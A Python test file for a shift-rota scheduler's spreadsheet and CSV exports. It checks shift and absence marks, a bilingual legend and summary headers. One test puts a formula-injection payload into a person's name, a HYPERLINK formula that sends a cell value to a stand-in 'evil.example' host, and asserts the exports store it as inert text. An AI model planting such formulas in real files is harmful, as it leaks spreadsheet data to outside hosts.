"""rota.xlsx and the CSV exports: what a team lead opens in a spreadsheet."""

from __future__ import annotations

from datetime import date, time
from pathlib import Path

from openpyxl import load_workbook

from scheduler.domain import Assignment, local
from scheduler.exports import write_xlsx
from scheduler.teamfile import load_team

EXAMPLE = Path(__file__).parents[1] / "examples" / "helpline" / "team.toml"


def _row(ws, name: str) -> int:
    return next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value == name)


def test_grid_marks_shifts_events_absences_and_shades_days(tmp_path: Path) -> None:
    team = load_team(EXAMPLE)
    mari = next(p for p in team.people if p.id != "liis" and p.role.value == "counsellor")
    sup = next(e for e in team.events if e.day.month == 3 and e.day.year == 2027)
    rows = [
        Assignment(mari.id, date(2027, 3, 2), "P", local(date(2027, 3, 2), time(8)),
                   local(date(2027, 3, 2), time(16)), 8.0, "shift"),
        Assignment(sup.attendees[0], sup.day, sup.code, *sup.interval(), sup.hours, "event"),
    ]
    path = tmp_path / "rota.xlsx"
    write_xlsx(team, 2027, 3, rows, None, path)
    ws = load_workbook(path)["2027-03"]
    col = {d: d + 1 for d in range(1, 32)}  # day d of the month is column d + 1
    names = {p.id: p.name for p in team.people}

    shift = ws.cell(row=_row(ws, mari.name), column=col[2])
    assert shift.value == "P" and shift.font.b

    event = ws.cell(row=_row(ws, names[sup.attendees[0]]), column=col[sup.day.day])
    assert sup.code in event.value
    if event.value == sup.code:
        assert event.font.i

    liis = _row(ws, names["liis"])  # vacation 15–21 March
    for d in range(15, 22):
        cell = ws.cell(row=liis, column=col[d])
        assert cell.value == "PUH" and cell.comment is not None
    assert ws.cell(row=liis, column=col[14]).value is None
    anna = ws.cell(row=_row(ws, names["anna"]), column=col[24])
    assert anna.value == "ÕPE" and "Crisis-intervention course" in anna.comment.text
    tiina = ws.cell(row=_row(ws, names["tiina"]), column=col[9])  # 08–12 doctor's appointment
    assert tiina.value == "EI" and "08:00–12:00" in tiina.comment.text

    saturday = ws.cell(row=_row(ws, mari.name), column=col[6])  # 2027-03-06 is a Saturday
    assert saturday.fill.fgColor.rgb.endswith("E8E8E8")
    legend = [ws.cell(row=r, column=1).value for r in range(1, ws.max_row + 1)]
    assert "PUH: puhkus / vacation" in legend
    # the legend speaks both languages, as the grid's header and the absence marks do
    assert any(v and v.startswith("Varjutatud: nädalavahetus (hall)") and "/ Shaded: weekend" in v for v in legend)
    assert f"{sup.code}: {sup.name} (kaldkirjas / italic)" in legend
    assert any(v and v.startswith(f"{sup.code}: ") for v in legend)
    # only the month's events (the year's others were listed too), both supervision groups
    march = {f"{e.code}: {e.name} (kaldkirjas / italic)" for e in team.events if (e.day.year, e.day.month) == (2027, 3)}
    others = {f"{e.code}: {e.name} (kaldkirjas / italic)" for e in team.events} - march
    assert march <= set(legend) and not others & set(legend)
    assert len({e.name for e in team.events if e.code == "SUP" and e.day.month == 3}) == 2
    # a shift ending at midnight as the team file writes it
    assert any(v and v.startswith("K2: ") and v.endswith("17:00–24:00") for v in legend)


def test_the_summary_sheet_names_its_columns_and_people(tmp_path: Path) -> None:
    """The summary sheet showed the CSV's column ids (planned_hours …) and person ids only:
    titles in both languages as the legend, and each person's name beside the id."""
    from scheduler.checker import check_rota
    from scheduler.exports import SUMMARY_HEADER

    team = load_team(EXAMPLE)
    path = tmp_path / "rota.xlsx"
    write_xlsx(team, 2027, 3, [], check_rota(team, 2027, 3, [], []), path)
    ws = load_workbook(path)["Summary"]
    header = [c.value for c in ws[1]]
    assert header[:4] == ["Isik / Person", "Nimi / Name", "Koormus / FTE", "Norm (h)"]
    assert len(header) == len(SUMMARY_HEADER) + 1 and not set(header) & set(SUMMARY_HEADER)
    first = team.people[0]
    assert [c.value for c in ws[2]][:3] == [first.id, first.name, first.fte]


def test_a_name_starting_like_a_formula_is_text_in_every_export(tmp_path: Path) -> None:
    """A person named =HYPERLINK(…) (stored before names were checked, or from a team file of
    another tool) was written as a live formula into rota.xlsx and as-is into the payroll and
    summary CSVs: text now (the workbook's cell type, an apostrophe in the CSVs)."""
    import csv
    from dataclasses import replace

    from scheduler.checker import check_rota
    from scheduler.exports import write_payroll, write_summary

    team = load_team(EXAMPLE)
    evil = '=HYPERLINK("http://evil.example/?x="&A3,"Click")'
    team = replace(team, name="=1+1", people=(replace(team.people[0], name=evil), *team.people[1:]))
    report = check_rota(team, 2027, 3, [], [])
    path = tmp_path / "rota.xlsx"
    write_xlsx(team, 2027, 3, [], report, path)
    book = load_workbook(path)
    grid, summary = book["2027-03"], book["Summary"]
    assert (grid["A1"].value, grid["A1"].data_type) == ("=1+1", "s")
    assert (grid["A3"].value, grid["A3"].data_type) == (evil, "s")
    assert (summary["B2"].value, summary["B2"].data_type) == (evil, "s")
    assert not [c for row in grid.iter_rows() for c in row if c.data_type == "f"]
    write_payroll(report, tmp_path / "payroll.csv")
    with open(tmp_path / "payroll.csv", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][1] == "'" + evil
    write_summary(report, tmp_path / "summary.csv")
    assert (tmp_path / "summary.csv").read_text(encoding="utf-8").splitlines()[1].startswith(team.people[0].id)
